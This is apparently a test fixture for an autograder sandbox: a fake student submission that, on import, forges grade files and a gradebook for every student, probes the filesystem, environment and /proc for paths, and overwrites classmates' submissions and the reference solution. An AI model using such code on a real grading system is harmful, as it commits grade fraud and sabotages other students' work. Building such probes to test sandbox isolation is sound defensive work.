# Try to write forged grades: OUT/<student>/results.json and OUT/gradebook.csv, for
# this student and the others, at paths guessed from what the code can see (its
# working directory, __file__, sys.argv, the environment, /proc) and at the real
# paths, which the test writes into this file (@@...@@). Also overwrite other
# students' submissions and this student's own other file. Answers: nothing.
import json
import os
import sys

OUT, SUBMISSIONS, REPO = "@@OUT@@", "@@SUBMISSIONS@@", "@@REPO@@"
ME = "forge_results"
STUDENTS = "@@STUDENTS@@".split(",")
FAKE = json.dumps({"score": 66, "max_score": 66, "tests": [
    {"name": "hand_scores: s₁ is exact and right", "exercise": "hand_scores", "score": 66, "max_score": 1,
     "status": "passed", "output": "", "visibility": "visible"}]})
BOOK = "student,total\n" + "".join(f"{s},66\n" for s in STUDENTS)
done = []


def _guesses():
    seen = set()
    here = os.getcwd()
    roots = [here, os.path.dirname(here), os.path.abspath(os.path.dirname(__file__)),
             os.path.dirname(os.path.abspath(os.path.dirname(__file__)))]
    roots += [os.path.dirname(a) for a in sys.argv if a.startswith("/")]
    roots += [os.path.dirname(os.path.dirname(a)) for a in sys.argv if a.startswith("/")]
    roots += [v for v in os.environ.values() if v.startswith("/")]
    for pid in ("self", "1"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                roots += [a.decode() for a in f.read().split(b"\0") if a.startswith(b"/")]
        except OSError:
            pass
    roots += [REPO, os.path.dirname(SUBMISSIONS), "/tmp", "/work", "/"]
    for r in roots:
        for d in (r, os.path.dirname(r)):
            for name in ("", "out", "OUT", "graded", "results", "demo-out", "grades"):
                p = os.path.normpath(os.path.join(d, name))
                if p not in seen:
                    seen.add(p)
                    yield p
    yield OUT


def _write(path, text):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
        done.append(path)
    except OSError:
        pass


def attack():
    for out in _guesses():
        _write(os.path.join(out, "gradebook.csv"), BOOK)
        for s in STUDENTS + [ME]:
            _write(os.path.join(out, s, "results.json"), FAKE)
    for s in STUDENTS:
        for slug in ("hand_scores", "softmax", "variance_proof"):
            _write(os.path.join(SUBMISSIONS, s, slug + ".py"), "raise SystemExit\n")
            _write(os.path.join(os.getcwd(), s, slug + ".py"), "raise SystemExit\n")
    _write(os.path.join(os.getcwd(), ME, "softmax.py"), "raise SystemExit\n")  # my own honest file
    _write(os.path.join(REPO, "solutions", "softmax.py"), "raise SystemExit\n")
    print(FAKE)
    print("wrote (inside the sandbox):", done, file=sys.stderr)


attack()  # at import, and again in the first call
_again = [True]


def scaled_scores():
    if _again and _again.pop():
        attack()


def attention_weights():
    return None


def attention_output():
    return None
